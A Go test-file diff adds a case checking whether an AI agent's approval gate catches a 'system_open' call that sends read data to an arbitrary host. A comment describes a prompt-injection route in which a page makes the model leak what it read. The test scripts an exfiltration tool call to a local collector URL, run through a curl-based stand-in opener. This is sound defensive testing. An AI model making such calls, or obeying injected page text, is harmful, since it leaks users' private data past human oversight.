@@ -212,3 +212,53 @@ func TestA2CurlReachesAHostNoOneWasAskedAbout(t *testing.T) {
 		})
 	}
 }
+
+// Attack (a2): system_open opens any http(s) address in the default
+// browser, which requests it at once, yet the gate reads hosts only from
+// arguments named like url, href or endpoint, not system_open's target,
+// the tool is neither destructive nor matched by a confirm pattern, and
+// the plugin does not ask sdk.CheckHost. So a page can have the model
+// send what it read to any host, with no question: the real system
+// plugin, with a stand-in xdg-open that requests the address as a
+// browser would.
+func TestA2SystemOpenSendsToAnyHost(t *testing.T) {
+	if _, err := exec.LookPath("curl"); err != nil {
+		t.Skip("needs curl")
+	}
+	bin := t.TempDir()
+	opener := "#!/bin/sh\nexec curl -s -o /dev/null \"$1\"\n"
+	if err := os.WriteFile(filepath.Join(bin, "xdg-open"), []byte(opener), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	t.Setenv("PATH", bin+string(os.PathListSeparator)+os.Getenv("PATH"))
+	home := t.TempDir()
+	project := filepath.Join(home, "project")
+	if err := os.MkdirAll(project, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	col := &bodyCollector{}
+	exfil := httptest.NewServer(col)
+	defer exfil.Close()
+	ws := filepath.Join(home, "ws")
+	host := plugins.NewHost(plugins.Options{Roots: func(string, []string) []string { return []string{project} }})
+	reg, err := cerebellum.Open(cerebellum.Options{Builtin: builtin.FS(), Workspace: ws,
+		Loaders: map[cerebellum.Kind]cerebellum.Loader{cerebellum.KindPlugin: host}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer reg.Close()
+	b, _ := json.Marshal(map[string]string{"target": exfil.URL + "/collect?d=private-notes-a2"})
+	prov := newProvider(t, calls(tc("c1", "system_open", string(b))), text("done"))
+	e := newEnv(t, prov)
+	e.reg = reg
+	p := &person{answers: func(gate.Request) gate.Approval { return gate.Deny }}
+	if _, err := e.agent(func(o *agent.Options) {
+		o.Approver = p
+		o.GateEnv = func() gate.Env { return gate.Env{Home: home, Folders: []string{project}, Workspace: ws} }
+	}).Turn(t.Context(), 0, "open the report", nil); err != nil {
+		t.Fatal(err)
+	}
+	if got := col.got(); len(got) != 0 {
+		t.Errorf("the second host received %q; the person was asked %d times", got, len(p.requests()))
+	}
+}
